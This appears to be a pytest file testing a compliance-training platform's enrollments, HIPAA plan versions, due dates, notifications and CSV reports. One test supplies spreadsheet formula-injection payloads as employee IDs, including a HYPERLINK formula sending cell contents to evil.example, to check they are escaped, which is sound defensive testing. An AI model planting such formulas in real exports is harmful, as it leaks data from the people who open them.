"""Learning behaviour: a learner's whole journey, overlapping assignments,
inactivation, plan versions, visibility, due dates and notifications."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import pytest
from reconciler_sandbox.engine import Platform

from reconciler.errors import InvalidRequest, PermanentError

from .conftest import Clock, assignment, audience, obj, plan, put, step

ADMIN = "compliance@x.org"


def hipaa_plan(**extra: Any) -> dict[str, Any]:
    return plan(
        step("foundations", "basics", "privacy", release={"at": "enrollment"}, due="14d"),
        step("practice", "phi", release={"offset": "7d"}),
        step("assessment", "quiz", release={"after_step": "practice", "delay": "2d"}),
        step("refresher", "refresher", release={"date": "2027-06-01"}, required=False),
        certificate={"template": "compliance", "valid_for": "1y", "renew_before": "30d"},
        notify={"admins": [ADMIN], "on": ["completed", "overdue", "expiring"]},
        **{"visibility": "all", **extra},
    )


@pytest.fixture
def catalogue(platform: Platform) -> Platform:
    for name in ("basics", "privacy", "phi", "refresher", "video"):
        put(platform, "LearningObject", name, obj(name.title()))
    put(platform, "LearningObject", "quiz",
        obj("Quiz", type="assessment", completion={"type": "min_score", "min_score": 80}))
    put(platform, "Audience", "nurses", audience(groups=["nursing"]))
    put(platform, "CertificationPlan", "hipaa", hipaa_plan())
    return platform


def enrollment(view: dict[str, Any], kind: str, name: str) -> dict[str, Any]:
    [found] = [e for e in view["enrollments"] if e["item"] == {kind: name}]
    return found


def steps(view: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {s["name"]: s for s in enrollment(view, "plan", "hipaa")["steps"]}


def report(platform: Platform, as_of: date) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(platform.enrollments_report_csv(as_of))))


def events(platform: Platform, recipient: str, event: str) -> list[dict[str, Any]]:
    return [n for n in platform.notifications(recipient) if n["kind"] == event]


def test_a_learners_whole_journey(catalogue: Platform, clock: Clock) -> None:
    p = catalogue
    put(p, "Assignment", "hipaa-2027", assignment("nurses", {"plan": "hipaa"}))
    monday = date(2027, 1, 4)

    day0 = steps(p.learner_view("E1001", monday))
    assert day0["foundations"]["state"] == "released"
    assert day0["foundations"]["due_date"] == "2027-01-18"
    assert day0["practice"] == {**day0["practice"], "state": "locked",
                                "release_date": "2027-01-11"}
    assert day0["assessment"]["state"] == "locked"
    assert day0["assessment"]["release_date"] is None  # waits for practice
    assert day0["refresher"]["release_date"] == "2027-06-01"

    with pytest.raises(PermanentError, match="no access to phi"):
        p.record_completion("E1001", "phi", completed_on=date(2027, 1, 5), actor="lms")
    p.record_completion("E1001", "basics", completed_on=date(2027, 1, 5), actor="lms")
    p.record_completion("E1001", "privacy", completed_on=date(2027, 1, 6), actor="lms")
    week1 = steps(p.learner_view("E1001", date(2027, 1, 11)))
    assert week1["foundations"]["state"] == "completed"
    assert week1["foundations"]["completed_on"] == "2027-01-06"
    assert week1["practice"]["state"] == "released"

    p.record_completion("E1001", "phi", completed_on=date(2027, 1, 12), actor="lms")
    with pytest.raises(PermanentError, match="no access to quiz"):
        p.record_completion("E1001", "quiz", completed_on=date(2027, 1, 13), score=95,
                            actor="lms")
    assert steps(p.learner_view("E1001", date(2027, 1, 14)))["assessment"][
        "release_date"] == "2027-01-14"
    failed = p.record_completion("E1001", "quiz", completed_on=date(2027, 1, 15), score=70,
                                 actor="lms")
    assert failed["passed"] is False and failed["completed"] == []
    passed = p.record_completion("E1001", "quiz", completed_on=date(2027, 1, 16), score=90,
                                 actor="lms")
    assert passed["completed"] == [{"plan": "hipaa"}]

    done = p.learner_view("E1001", date(2027, 2, 1))
    assert enrollment(done, "plan", "hipaa")["status"] == "completed"
    assert done["certificates"] == [{
        "plan": "hipaa", "title": "Annual HIPAA", "version": 1, "template": "compliance",
        "issued_on": "2027-01-16", "expires_on": "2028-01-16", "renew_from": "2027-12-17",
        "status": "valid"}]
    assert len(events(p, ADMIN, "completed")) == 1
    clock.day = date(2027, 2, 1)
    assert p.get_resource("CertificationPlan", "hipaa")["status"]["certified"] == 1

    # Inside the renewal window: a new cycle starts, the old certificate is kept.
    clock.day = date(2027, 12, 20)
    window = p.learner_view("E1001", date(2027, 12, 20))
    assert events(p, ADMIN, "expiring") == []  # reading never writes: the scheduler does
    assert p.tick().recorded > 0
    renewal = enrollment(window, "plan", "hipaa")
    assert (renewal["cycle"], renewal["enrolled_on"], renewal["status"]) == (
        2, "2027-12-17", "not_started")
    assert renewal["due_on"] == "2028-01-16"
    assert [c["status"] for c in window["certificates"]] == ["renewal_due"]
    assert len(events(p, ADMIN, "expiring")) == 1
    assert [n["on"] for n in events(p, "E1001", "renewal")] == ["2027-12-17"]
    # Earlier completions do not count toward the renewal.
    assert steps(window)["foundations"]["state"] == "released"

    expired = p.learner_view("E1001", date(2028, 1, 20))
    assert [c["status"] for c in expired["certificates"]] == ["expired"]
    assert enrollment(expired, "plan", "hipaa")["overdue"] is True
    # Looking back shows the first cycle as it was.
    assert enrollment(p.learner_view("E1001", date(2027, 2, 1)), "plan", "hipaa")["cycle"] == 1
    cycles = [r for r in report(p, date(2028, 1, 20)) if r["employee_id"] == "E1001"]
    assert [(r["cycle"], r["enrollment"], r["certificate_status"]) for r in cycles] == [
        ("1", "renewed", "expired"), ("2", "active", "")]


def test_overdue_steps_notify_admins_once(catalogue: Platform, clock: Clock) -> None:
    put(catalogue, "Assignment", "hipaa-2027", assignment("nurses", {"plan": "hipaa"}))
    clock.day = date(2027, 1, 26)
    on_time = catalogue.learner_view("E1002", date(2027, 1, 18))
    assert steps(on_time)["foundations"]["overdue"] is False
    late = catalogue.learner_view("E1002", date(2027, 1, 19))
    assert steps(late)["foundations"]["overdue"] is True
    # The plan has no due date of its own: a late step puts the learner behind.
    assert enrollment(late, "plan", "hipaa")["overdue"] is False
    assert enrollment(late, "plan", "hipaa")["overdue_steps"] == ["foundations"]
    late_rows = [r for r in report(catalogue, date(2027, 1, 19)) if r["employee_id"] == "E1002"]
    assert [(r["overdue"], r["overdue_steps"]) for r in late_rows] == [("no", "foundations")]
    catalogue.learner_view("E1002", date(2027, 1, 25))
    catalogue.enrollments_report_csv(date(2027, 1, 26))
    assert events(catalogue, ADMIN, "overdue") == []  # reading sends nothing
    catalogue.tick()
    catalogue.tick()  # a second run finds everything on record
    overdue = events(catalogue, ADMIN, "overdue")
    assert sorted((n["learner"], n["on"]) for n in overdue) == [
        ("E1001", "2027-01-19"), ("E1002", "2027-01-19")]


def test_overlapping_assignments_give_one_enrollment_and_one_notification(
    catalogue: Platform,
) -> None:
    put(catalogue, "Audience", "boston", audience(where={"location": "Boston"}))
    put(catalogue, "Assignment", "a1", assignment("nurses", {"plan": "hipaa"},
                                                  {"object": "video"}))
    put(catalogue, "Assignment", "a2", assignment("boston", {"object": "video"},
                                                  {"plan": "hipaa"}))
    view = catalogue.learner_view("E1001", date(2027, 1, 4))  # nurse in Boston
    assert sorted(e["title"] for e in view["enrollments"]) == ["Annual HIPAA", "Video"]
    assert enrollment(view, "object", "video")["assignments"] == ["a1", "a2"]
    assigned = events(catalogue, "E1001", "assigned")
    assert sorted(n["item"]["plan" if "plan" in n["item"] else "object"]
                  for n in assigned) == ["hipaa", "video"]
    rows = [r for r in report(catalogue, date(2027, 1, 4)) if r["employee_id"] == "E1001"]
    assert len(rows) == 2 and {r["assignments"] for r in rows} == {"a1;a2"}
    # Removing one source keeps the enrollment: the other still reaches the learner.
    catalogue.inactivate_resource("Assignment", "a1", if_match=1, actor="x")
    view = catalogue.learner_view("E1001", date(2027, 1, 5))
    assert enrollment(view, "object", "video")["assignments"] == ["a2"]
    assert catalogue.learner_view("E1002", date(2027, 1, 5))["enrollments"] == []


def test_inactivation_stops_access_keeps_records_and_reactivation_restores(
    catalogue: Platform,
) -> None:
    spec = assignment("nurses", {"object": "video"}, {"plan": "hipaa"})
    put(catalogue, "Assignment", "a1", spec)
    catalogue.record_completion("E1001", "video", completed_on=date(2027, 1, 5), actor="lms")
    catalogue.record_completion("E1001", "basics", completed_on=date(2027, 1, 5), actor="lms")
    catalogue.inactivate_resource("Assignment", "a1", if_match=1, actor="x")

    assert catalogue.learner_view("E1001", date(2027, 1, 6))["enrollments"] == []
    with pytest.raises(PermanentError, match="no access"):
        catalogue.record_completion("E1001", "privacy", completed_on=date(2027, 1, 6),
                                    actor="lms")
    rows = report(catalogue, date(2027, 1, 6))
    assert len(rows) == 4 and {r["enrollment"] for r in rows} == {"inactive"}
    video = [r for r in rows if r["employee_id"] == "E1001" and r["item"] == "video"]
    assert video[0]["completed_on"] == "2027-01-05"
    assert video[0]["inactive_reason"] == "assignment a1 inactivated"
    status = catalogue.get_resource("Assignment", "a1")["status"]
    assert (status["active"], status["enrolled"], status["inactive"]) == (False, 0, 4)

    put(catalogue, "Assignment", "a1", spec)  # active: true again
    view = catalogue.learner_view("E1001", date(2027, 1, 7))
    assert enrollment(view, "object", "video")["status"] == "completed"
    assert steps(view)["foundations"]["items"][0]["completed_on"] == "2027-01-05"
    assert len(events(catalogue, "E1001", "assigned")) == 2  # not re-sent


def test_plan_change_keeps_in_progress_learners_on_their_version(
    catalogue: Platform, clock: Clock,
) -> None:
    put(catalogue, "Assignment", "a1", assignment("nurses", {"plan": "hipaa"}))
    catalogue.record_completion("E1001", "basics", completed_on=date(2027, 1, 5), actor="lms")
    changed = hipaa_plan(title="HIPAA 2.0")
    changed["steps"][0]["items"] = ["basics"]  # privacy no longer needed
    resource = put(catalogue, "CertificationPlan", "hipaa", changed)
    assert resource["status"]["current_version"] == 2
    view = catalogue.learner_view("E1001", date(2027, 1, 6))
    assert enrollment(view, "plan", "hipaa")["version"] == 1
    assert steps(view)["foundations"]["state"] == "released"  # still needs privacy

    clock.day = date(2027, 2, 1)  # a new nurse arrives and gets version 2
    catalogue.import_users_csv(
        "employee_id,job_role,groups\nE1006,Nurse,nursing\n", actor="hr")
    newcomer = catalogue.learner_view("E1006", date(2027, 2, 1))
    assert enrollment(newcomer, "plan", "hipaa")["version"] == 2
    assert enrollment(newcomer, "plan", "hipaa")["enrolled_on"] == "2027-02-01"


def test_plan_change_with_migrate_moves_learners_and_carries_completions(
    catalogue: Platform,
) -> None:
    put(catalogue, "Assignment", "a1", assignment("nurses", {"plan": "hipaa"}))
    catalogue.record_completion("E1001", "basics", completed_on=date(2027, 1, 5), actor="lms")
    changed = hipaa_plan(in_progress="migrate")
    changed["steps"][0]["items"] = ["basics"]
    put(catalogue, "CertificationPlan", "hipaa", changed)
    view = catalogue.learner_view("E1001", date(2027, 1, 6))
    assert enrollment(view, "plan", "hipaa")["version"] == 2
    assert steps(view)["foundations"]["state"] == "completed"
    assert steps(view)["foundations"]["completed_on"] == "2027-01-05"


def test_released_visibility_hides_future_steps(catalogue: Platform) -> None:
    put(catalogue, "CertificationPlan", "hipaa", hipaa_plan(visibility="released"))
    put(catalogue, "Assignment", "a1", assignment("nurses", {"plan": "hipaa"}))
    assert list(steps(catalogue.learner_view("E1001", date(2027, 1, 4)))) == ["foundations"]
    assert list(steps(catalogue.learner_view("E1001", date(2027, 1, 11)))) == [
        "foundations", "practice"]


def test_membership_follows_directory_and_audience_changes(
    catalogue: Platform, clock: Clock,
) -> None:
    put(catalogue, "Assignment", "a1", assignment("nurses", {"object": "video"}))
    clock.day = date(2027, 1, 10)
    # E1002 moves to IT; E1007 joins nursing; E1001 is unchanged.
    result = catalogue.import_users_csv(
        "employee_id,department,groups,status\n"
        "E1002,IT,it,active\nE1007,Nursing,nursing,\n", actor="hr")
    assert result == {"added": 1, "updated": 1, "unchanged": 0}
    assert catalogue.learner_view("E1002", date(2027, 1, 10))["enrollments"] == []
    joined = catalogue.learner_view("E1007", date(2027, 1, 10))
    assert enrollment(joined, "object", "video")["enrolled_on"] == "2027-01-10"
    leaver = [r for r in report(catalogue, date(2027, 1, 10)) if r["employee_id"] == "E1002"]
    assert leaver[0]["enrollment"] == "inactive"
    assert "directory change" in leaver[0]["inactive_reason"]

    # Narrowing the audience drops E1007 (no location) but keeps E1001 (Boston).
    put(catalogue, "Audience", "nurses", audience(groups=["nursing"],
                                                   where={"location": {"exists": True}}))
    assert catalogue.learner_view("E1007", date(2027, 1, 11))["enrollments"] == []
    assert catalogue.learner_view("E1001", date(2027, 1, 11))["enrollments"] != []
    assert catalogue.get_resource("Assignment", "a1")["status"]["enrolled"] == 1


def test_future_start_due_dates_and_reminders(catalogue: Platform, clock: Clock) -> None:
    put(catalogue, "Assignment", "a1", assignment(
        "nurses", {"object": "video"}, start="2027-02-01", due="30d",
        notify={"on_assign": True, "reminders": ["7d", "1d"]}))
    clock.day = date(2027, 3, 5)
    assert catalogue.learner_view("E1001", date(2027, 1, 20))["enrollments"] == []
    video = enrollment(catalogue.learner_view("E1001", date(2027, 2, 1)), "object", "video")
    assert (video["enrolled_on"], video["due_on"], video["overdue"]) == (
        "2027-02-01", "2027-03-03", False)
    with pytest.raises(PermanentError, match="no access"):
        catalogue.record_completion("E1001", "video", completed_on=date(2027, 1, 20),
                                    actor="lms")
    assert events(catalogue, "E1001", "assigned") == []  # not before its start date
    catalogue.tick(date(2027, 1, 31))
    assert events(catalogue, "E1001", "assigned") == []
    catalogue.tick(date(2027, 2, 1))
    [assigned] = events(catalogue, "E1001", "assigned")
    assert (assigned["on"], assigned["message"]) == (
        "2027-02-01", "You have been enrolled in Video, starting 2027-02-01")
    catalogue.tick(date(2027, 2, 25))
    assert [(n["on"], n["message"]) for n in events(catalogue, "E1001", "reminder")] == [
        ("2027-02-24", "Reminder: Video is due on 2027-03-03")]
    catalogue.tick(date(2027, 3, 4))
    assert [n["on"] for n in events(catalogue, "E1001", "reminder")] == [
        "2027-02-24", "2027-03-02"]
    assert [(n["on"], n["message"]) for n in events(catalogue, "E1001", "overdue")] == [
        ("2027-03-04", "Video was due on 2027-03-03 and is overdue")]
    late = catalogue.learner_view("E1001", date(2027, 3, 4))
    assert enrollment(late, "object", "video")["overdue"] is True
    catalogue.record_completion("E1001", "video", completed_on=date(2027, 3, 5), actor="lms")
    done = enrollment(catalogue.learner_view("E1001", date(2027, 3, 5)), "object", "video")
    assert (done["status"], done["overdue"]) == ("completed", False)


@pytest.mark.parametrize("later_first", [True, False])
def test_an_item_two_assignments_give_starts_with_the_sooner(
    catalogue: Platform, later_first: bool
) -> None:
    """What a learner gets never depends on the order of writes: an assignment giving
    an item immediately gives it today, even when one starting later reached the
    learner first (found by the fidelity harness: E2 waited for the later start)."""
    later = assignment("nurses", {"object": "video"}, start="2027-02-01")
    now = assignment("nurses", {"object": "video"})
    for name, spec in ([("later", later), ("now", now)] if later_first
                       else [("now", now), ("later", later)]):
        put(catalogue, "Assignment", name, spec)
    video = enrollment(catalogue.learner_view("E1001", date(2027, 1, 4)), "object", "video")
    assert (video["enrolled_on"], video["status"]) == ("2027-01-04", "not_started")
    [assigned] = events(catalogue, "E1001", "assigned")
    assert assigned["on"] == "2027-01-04"
    catalogue.tick(date(2027, 2, 2))
    assert len(events(catalogue, "E1001", "assigned")) == 1  # told once
    video = enrollment(catalogue.learner_view("E1001", date(2027, 2, 2)), "object", "video")
    assert video["enrolled_on"] == "2027-01-04"


# Under migrate the fixture's version 1 is followed by 2 (the policy) and 3 (the change).
@pytest.mark.parametrize(("policy", "version"), [("keep", 1), ("migrate", 3)])
def test_a_learner_back_in_a_plan_resumes_on_the_version_its_policy_gives(
    catalogue: Platform, policy: str, version: int
) -> None:
    """Away while the plan changed: under keep, back on the version they had; under
    migrate, on the newest, as everyone unfinished in it was moved (found by the
    fidelity harness: a learner back after a migrate stayed on the old version)."""
    spec = assignment("nurses", {"plan": "hipaa"})
    put(catalogue, "CertificationPlan", "hipaa", hipaa_plan(in_progress=policy))
    put(catalogue, "Assignment", "a1", spec)
    catalogue.record_completion("E1001", "basics", completed_on=date(2027, 1, 4), actor="lms")
    catalogue.inactivate_resource("Assignment", "a1", if_match=1, actor="x")
    changed = hipaa_plan(in_progress=policy)
    changed["steps"][1]["release"] = {"offset": "1d"}
    put(catalogue, "CertificationPlan", "hipaa", changed)
    put(catalogue, "Assignment", "a1", spec)  # back
    entry = enrollment(catalogue.learner_view("E1001", date(2027, 1, 6)), "plan", "hipaa")
    assert (entry["version"], entry["status"]) == (version, "in_progress")
    assert steps(catalogue.learner_view("E1001", date(2027, 1, 6)))["foundations"][
        "items"][0]["completed_on"] == "2027-01-04"


def test_an_enrollment_waiting_for_its_start_counts_as_neither_started_nor_done(
    catalogue: Platform,
) -> None:
    """Items done through another assignment before a plan's start do not put the
    learner in progress on it before it starts: the status counts agree
    with the report and the learner view (found by the fidelity harness: a migrate's
    plan said a learner in progress moves, the learner was only scheduled)."""
    put(catalogue, "Assignment", "now", assignment("nurses", {"object": "basics"}))
    put(catalogue, "Assignment", "later", assignment("nurses", {"plan": "hipaa"},
                                                      start="2027-02-01"))
    catalogue.record_completion("E1001", "basics", completed_on=date(2027, 1, 4), actor="lms")
    [row] = [r for r in report(catalogue, date(2027, 1, 5))
             if (r["employee_id"], r["item"]) == ("E1001", "hipaa")]
    assert row["status"] == "scheduled"
    for kind, name in (("Assignment", "later"), ("CertificationPlan", "hipaa")):
        status = catalogue.get_resource(kind, name)["status"]
        assert (status["enrolled"], status["in_progress"]) == (2, 0), name
    catalogue.tick(date(2027, 2, 1))
    status = catalogue.get_resource("Assignment", "later")["status"]
    assert status["in_progress"] == 1  # started: basics, done before, counts


def test_min_score_needs_a_score(catalogue: Platform) -> None:
    put(catalogue, "Assignment", "a1", assignment("nurses", {"object": "quiz"}))
    with pytest.raises(InvalidRequest, match="score"):
        catalogue.record_completion("E1001", "quiz", completed_on=date(2027, 1, 5),
                                    actor="lms")


def test_deleting_keeps_history(catalogue: Platform) -> None:
    put(catalogue, "Assignment", "a1", assignment("nurses", {"object": "video"}))
    catalogue.record_completion("E1001", "video", completed_on=date(2027, 1, 5), actor="lms")
    catalogue.delete_resource("Assignment", "a1", if_match=1, actor="x")
    catalogue.delete_resource("LearningObject", "video", if_match=1, actor="x")
    rows = report(catalogue, date(2027, 1, 6))
    assert [(r["employee_id"], r["status"], r["enrollment"], r["inactive_reason"])
            for r in rows] == [
        ("E1001", "completed", "inactive", "assignment a1 deleted"),
        ("E1002", "not_started", "inactive", "assignment a1 deleted")]


def test_changing_an_assignments_due_moves_enrolled_learners_due(catalogue: Platform) -> None:
    put(catalogue, "Assignment", "a1", assignment("nurses", {"object": "video"}, due="30d"))
    put(catalogue, "Assignment", "a1", assignment("nurses", {"object": "video"},
                                                  due="2027-01-10"))
    video = enrollment(catalogue.learner_view("E1001", date(2027, 1, 11)), "object", "video")
    assert (video["due_on"], video["overdue"]) == ("2027-01-10", True)


@pytest.mark.parametrize(
    "employee_id", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3",
                    "@SUM(A1:A9)"],
)
def test_report_cells_that_a_spreadsheet_would_run_are_escaped(
    catalogue: Platform, employee_id: str
) -> None:
    hostile = ("employee_id,first_name,groups\n"
               f'"{employee_id.replace(chr(34), chr(34) * 2)}",Mallory,nursing\n')
    catalogue.import_users_csv(hostile, actor="hr")
    put(catalogue, "Assignment", "hipaa-2027", assignment("nurses", {"plan": "hipaa"}))
    rows = report(catalogue, date(2027, 1, 5))
    [row] = [row for row in rows if row["employee_id"].endswith(employee_id[1:])]
    assert row["employee_id"] == "'" + employee_id  # shown as text, never evaluated
    assert {r["employee_id"] for r in rows} >= {"E1001", "E1002"}  # the rest unchanged


def test_prerequisites_are_enforced_and_shown(catalogue: Platform) -> None:
    put(catalogue, "LearningObject", "advanced", obj("Advanced", prerequisites=["basics",
                                                                               "privacy"]))
    put(catalogue, "Assignment", "a1", assignment("nurses", {"object": "advanced"},
                                                  {"object": "basics"}))
    view = catalogue.learner_view("E1001", date(2027, 1, 5))
    assert enrollment(view, "object", "advanced")["requires"] == ["basics", "privacy"]
    catalogue.record_completion("E1001", "basics", completed_on=date(2027, 1, 5), actor="lms")
    with pytest.raises(PermanentError, match="requires privacy first"):
        catalogue.record_completion("E1001", "advanced", completed_on=date(2027, 1, 6),
                                    actor="lms")
    # privacy done elsewhere (any enrollment, any cycle) counts, from the day it was done
    put(catalogue, "Assignment", "a2", assignment("nurses", {"object": "privacy"}))
    catalogue.record_completion("E1001", "privacy", completed_on=date(2027, 1, 7), actor="lms")
    assert enrollment(catalogue.learner_view("E1001", date(2027, 1, 6)), "object",
                      "advanced")["requires"] == ["privacy"]
    with pytest.raises(PermanentError, match="requires privacy first"):
        catalogue.record_completion("E1001", "advanced", completed_on=date(2027, 1, 6),
                                    actor="lms")
    catalogue.record_completion("E1001", "advanced", completed_on=date(2027, 1, 7), actor="lms")
    done = enrollment(catalogue.learner_view("E1001", date(2027, 1, 7)), "object", "advanced")
    assert (done["status"], done["requires"]) == ("completed", [])


def test_locked_steps_show_their_contents_under_visibility_all(catalogue: Platform) -> None:
    put(catalogue, "Assignment", "a1", assignment("nurses", {"plan": "hipaa"}))
    practice = steps(catalogue.learner_view("E1001", date(2027, 1, 4)))["practice"]
    assert practice["state"] == "locked"
    assert [(i["object"], i["title"]) for i in practice["items"]] == [("phi", "Phi")]
